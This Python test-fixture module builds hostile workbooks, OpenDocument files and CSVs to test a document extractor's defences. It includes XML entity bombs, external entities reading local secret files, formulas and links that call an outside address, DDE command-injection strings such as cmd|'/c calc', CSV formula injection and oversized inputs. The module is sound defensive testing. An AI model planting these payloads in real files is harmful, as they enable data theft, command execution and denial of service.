"""Workbooks, OpenDocument files and tables of text that repeat cells without end, reach outside, or hold formulas."""

from collections.abc import Callable

from tests.evidence.extractors import making_workbooks
from tests.evidence.extractors.making_packages import content_types, open_document, package
from tests.hostile.making_word_traps import R, relations
from tests.hostile.sample import EXPANDED, Family, Traps

TABLES = Family("T16", ".xlsx")
_KIND = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_BOOK = f'<workbook {R}><sheets><sheet name="S" sheetId="1" r:id="r0"/></sheets></workbook>'


def workbook(sheet: str | bytes, **parts: str | bytes) -> bytes:
    """Return a workbook of one sheet; ``parts`` replace or add parts, their names written with __ for a slash."""
    held: dict[str, str | bytes] = {
        "[Content_Types].xml": content_types("xl/workbook.xml", _KIND),
        "_rels/.rels": relations(("officeDocument", "xl/workbook.xml", False)),
        "xl/workbook.xml": _BOOK,
        "xl/_rels/workbook.xml.rels": relations(
            ("worksheet", "worksheets/sheet1.xml", False), ("sharedStrings", "sharedStrings.xml", False)
        ),
        "xl/worksheets/sheet1.xml": sheet,
    }
    return package({**held, **{name.replace("__", "/"): value for name, value in parts.items()}})


def rows(inner: str, before: str = "") -> str:
    """Return a sheet with these rows."""
    return f"<worksheet>{before}<sheetData>{inner}</sheetData></worksheet>"


def words(place: str, text: str = "Waiting times for reablement fell.") -> str:
    """Return a cell of words."""
    return f"<c r='{place}' t='inlineStr'><is><t>{text}</t></is></c>"


_FAR = f"<row r='1'>{words('A1')}</row><row r='1048576'>{words('XFD1048576')}</row>"
_SHEETS: dict[str, Callable[[Traps], bytes]] = {
    "two_cells_at_far_corners": lambda _: workbook(rows(_FAR, "<dimension ref='A1:XFD1048576'/>")),
    "dimension_of_everything": lambda _: workbook(rows(f"<row>{words('A1')}</row>", "<dimension ref='A1:XFD1048576'/>")),
    "cell_beyond_every_sheet": lambda _: workbook(rows(f"<row r='99999999999'>{words('ZZZZZZZZZZ99999999999')}</row>")),
    "place_that_is_none": lambda _: workbook(rows(f"<row r='-1'>{words('1A')}{words('')}{words('A0')}</row>")),
    "million_rows": lambda _: workbook(rows("".join(f"<row r='{n}'><c r='A{n}'><v>{n}</v></c></row>" for n in range(1, 1_000_001)))),
    "million_merged_cells": lambda _: workbook(
        f"<worksheet><sheetData><row>{words('A1')}</row></sheetData><mergeCells>"
        + "<mergeCell ref='A1:XFD9'/>" * 1_000_000 + "</mergeCells></worksheet>"
    ),
    "shared_string_that_is_not_there": lambda _: workbook(rows("<row r='1'><c r='A1' t='s'><v>4294967295</v></c></row>")),
    "laughing_strings": lambda _: workbook(
        rows("<row r='1'><c r='A1' t='s'><v>0</v></c></row>"),
        **{"xl__sharedStrings.xml": f'<!DOCTYPE x [<!ENTITY a "{EXPANDED}"><!ENTITY b "' + "&a;" * 99
           + '">]><sst><si><t>&b;</t></si></sst>'},
    ),
    "number_of_many_digits": lambda _: workbook(rows(f"<row r='1'><c r='A1'><v>{'9' * 2_000_000}</v></c>{words('B1')}</row>")),
    "numbers_that_are_none": lambda _: workbook(
        rows("<row r='1'>" + "".join(f"<c r='A1' t='{t}'><v>{v}</v></c>" for t in ("n", "b", "e", "d", "str", "zz")
             for v in ("nan", "inf", "1e999", "", "-0", "\u0661")) + words("B1") + "</row>")
    ),
    "date_before_time": lambda _: workbook(
        rows("<row r='1'><c r='A1' s='0'><v>-99999999</v></c><c r='B1' s='0'><v>1e300</v></c></row>"),
        **{"xl__styles.xml": "<styleSheet><cellXfs><xf numFmtId='14'/></cellXfs></styleSheet>"},
    ),
    "hundred_thousand_sheets": lambda _: workbook(
        rows(f"<row r='1'>{words('A1')}</row>"),
        **{"xl__workbook.xml": f"<workbook {R}><sheets>"
           + "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="r0"/>' for n in range(100_000)) + "</sheets></workbook>"},
    ),
    "names_that_expand": lambda _: workbook(
        rows(f"<row r='1'>{words('A1')}</row>"),
        **{"xl__workbook.xml": _BOOK.replace("</sheets>", "</sheets><definedNames>" + "".join(
            f"<definedName name='n{n}'>" + f"n{n - 1}," * 10 + "n0</definedName>" for n in range(1, 500)) + "</definedNames>")},
    ),
    "sheet_name_of_scripts": lambda traps: workbook(
        rows(f"<row r='1'>{words('A1')}</row>"),
        **{"xl__workbook.xml": _BOOK.replace('"S"', f'"&lt;script&gt;{traps.script}&lt;/script&gt;"')},
    ),
    "drawing_of_itself": lambda _: workbook(
        rows(f"<row r='1'>{words('A1')}</row>"),
        **{"xl__worksheets___rels__sheet1.xml.rels": relations(("drawing", "sheet1.xml", False), ("comments", "../workbook.xml", False))},
    ),
}  # fmt: skip
_SHORT = {"two_cells_at_far_corners", "laughing_strings"}


def _add_sheets() -> None:
    for name, make in _SHEETS.items():
        TABLES.add(name, make, "read", "unread", short=name in _SHORT)


_add_sheets()


@TABLES.file("read", "unread", threat="T13", short=True)
def data_from_elsewhere(traps: Traps) -> bytes:
    outside = relations(("externalLinkPath", traps.address, True), ("oleObject", f"file://{traps.secret}", True))
    formula = f'<c r="A1" t="str"><f>WEBSERVICE("{traps.address}")&amp;cmd|&apos;/c touch {traps.canary}&apos;!A1</f><v>kept</v></c>'
    query = f'<connections><connection type="5"><dbPr connection="URL;{traps.address}" command="select"/></connection></connections>'
    return workbook(
        rows(f'<row r="1">{formula}</row>'),
        **{
            "xl__externalLinks__externalLink1.xml": f'<externalLink {R}><externalBook r:id="r0"/></externalLink>',
            "xl__externalLinks___rels__externalLink1.xml.rels": outside,
            "xl__connections.xml": query,
        },
    )


@TABLES.file("read", "unread", threat="T14")
def sheet_with_an_outside_file(traps: Traps) -> bytes:
    entity = f'<!DOCTYPE x [<!ENTITY x SYSTEM "file://{traps.secret}"><!ENTITY y "{EXPANDED}">]>'
    return workbook('<?xml version="1.0"?>' + entity + rows(f"<row r='1'>{words('A1', '&x;&y;')}</row>"))


@TABLES.file("read", "unread", threat="T15")
def sheet_of_half_a_gigabyte(traps: Traps) -> bytes:
    del traps
    return workbook(b"<worksheet><sheetData>" + b" " * 400_000_000)


@TABLES.file("read", threat="T34", file_name="macros.xlsm", short=True)
def macros_of_excel(traps: Traps) -> bytes:
    del traps
    return making_workbooks.xlsm()


@TABLES.file("read", threat="T34", file_name="macros.xlsx")
def macros_of_excel_under_another_name(traps: Traps) -> bytes:
    del traps
    return making_workbooks.xlsm()


@TABLES.file("read", "unread", file_name="records.xlsb")
def binary_records_that_lie(traps: Traps) -> bytes:
    del traps
    return making_workbooks.xlsb().replace(b"\x94\x01\x10", b"\x94\x01\xff")


def _cells(text: str, times: int = 1) -> str:
    repeated = f'table:number-columns-repeated="{times}"'
    return f'<table:table-cell office:value-type="string" {repeated}><text:p>{text}</text:p></table:table-cell>'


_OPEN: dict[str, tuple[str, Callable[[Traps], bytes]]] = {
    "rows_repeated_without_end": ("ods", lambda _: open_document("spreadsheet", '<table:table table:name="S">'
         '<table:table-row table:number-rows-repeated="1048576">' + _cells("x", 16_384) + "</table:table-row></table:table>")),
    "repeated_beyond_numbers": ("ods", lambda _: open_document("spreadsheet", '<table:table table:name="S">'
        f'<table:table-row table:number-rows-repeated="99999999999999999999">{_cells("x")}</table:table-row></table:table>')),
    "spaces_beyond_numbers": ("odt", lambda _: open_document("text", '<text:p>Kept<text:s text:c="2147483647"/>words.</text:p>')),
    "spaces_below_nothing": ("odt", lambda _: open_document("text", '<text:p>Kept<text:s text:c="-5"/><text:s text:c="x"/>words.</text:p>')),
    "spans_without_end": ("odt", lambda _: open_document("text", f"<text:p>{'<text:span>' * 30_000}words{'</text:span>' * 30_000}</text:p>")),
    "heading_of_no_level": ("odt", lambda _: open_document("text", '<text:h text:outline-level="99999999999">Words</text:h><text:p>more</text:p>')),
    "picture_from_elsewhere": ("odt", lambda traps: open_document("text", f'<text:p>Words <draw:frame><draw:image xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{traps.address}" xlink:actuate="onLoad"/></draw:frame></text:p>')),
    "section_from_a_file": ("odt", lambda traps: open_document("text", f'<text:section text:name="s"><text:section-source xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="file://{traps.secret}"/><text:p>Words</text:p></text:section>')),
    "script_of_a_slide": ("odp", lambda traps: open_document("presentation", f'<draw:page><office:event-listeners><script:event-listener xmlns:script="urn:s" script:event-name="dom:load" href="{traps.address}"/></office:event-listeners><draw:frame><draw:text-box><text:p>Words</text:p></draw:text-box></draw:frame></draw:page>')),
    "slides_without_end": ("odp", lambda _: open_document("presentation", "<draw:page><draw:frame><draw:text-box><text:p>w</text:p></draw:text-box></draw:frame></draw:page>" * 100_000)),
    "locked_by_claim": ("odt", lambda _: open_document("text", "<text:p>Words</text:p>", encrypted=True)),
}  # fmt: skip


def _add_open_documents() -> None:
    for name, (suffix, make) in _OPEN.items():
        TABLES.add(
            name, make, "read", "unread", file_name=f"{name.replace('_', ' ')}.{suffix}",
            short=name in {"spaces_beyond_numbers", "rows_repeated_without_end"},
        )  # fmt: skip


_add_open_documents()


@TABLES.file("unread", "read", "refused", threat="T14", file_name="entities.odt")
def open_document_with_entities(traps: Traps) -> bytes:
    entity = f'<!DOCTYPE x [<!ENTITY x SYSTEM "file://{traps.secret}"><!ENTITY y "{EXPANDED}">]>'
    return package(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": f'<?xml version="1.0"?>{entity}<a xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">'
            "<text:p>&x;&y;</text:p></a>",
            "META-INF/manifest.xml": "<manifest/>",
        }
    )


FORMULAS = (
    "=1+1", "=cmd|'/c calc'!A1", "@SUM(1)", "+44 161 496 0000", "-5", "\t=1+1", "\r=1+1", "\uff1d1+1", '=HYPERLINK("http://127.0.0.1")',
    "%0A=1", "'=1", '=IMPORTXML("http://127.0.0.1","//a")', "-2+3+cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")',
)  # fmt: skip
"""Titles that a spreadsheet program would take for formulas, and some that only look so."""


@TABLES.file("read", threat="T21", file_name="formulas.csv", short=True)
def formulas_in_a_table(traps: Traps) -> bytes:
    shown = "\n".join(f'"{one.replace(chr(34), chr(34) * 2)}",words' for one in FORMULAS)
    return f"Title,What\n{shown}\n{traps.canary},end\n".encode()


for _number, _formula in enumerate(FORMULAS):
    TABLES.add(
        f"formula_name_{_number}", lambda _, text=_formula: f"Paper called {text!r}.".encode(), "read", threat="T21",
        file_name=f"{_formula.replace('/', ' ')}.txt", short=_number == 1,
    )  # fmt: skip


_CSV: dict[str, Callable[[Traps], bytes]] = {
    "quote_never_closed": lambda _: b'a,b\n"' + b"word, word\n" * 500_000,
    "cell_of_twenty_megabytes": lambda _: b"a,b\n" + b"w" * 20_000_000 + b",end\n",
    "millions_of_columns": lambda _: b"," * 5_000_000 + b"\nwords," + b"," * 5_000_000,
    "millions_of_rows": lambda _: b"Team,Days\n" + b"North,5\n" * 2_000_000,
    "nothing_but_line_ends": lambda _: b"a,b\n" + b"\r\n" * 5_000_000,
    "ends_inside_words": lambda _: b"a,b\nwo\x00rds,\x1b[2J\x07\n",
}


def _add_tables_of_text() -> None:
    for name, make in _CSV.items():
        TABLES.add(name, make, "read", "unread", "refused", file_name=f"{name.replace('_', ' ')}.csv",
                   short=name == "ends_inside_words")  # fmt: skip


_add_tables_of_text()
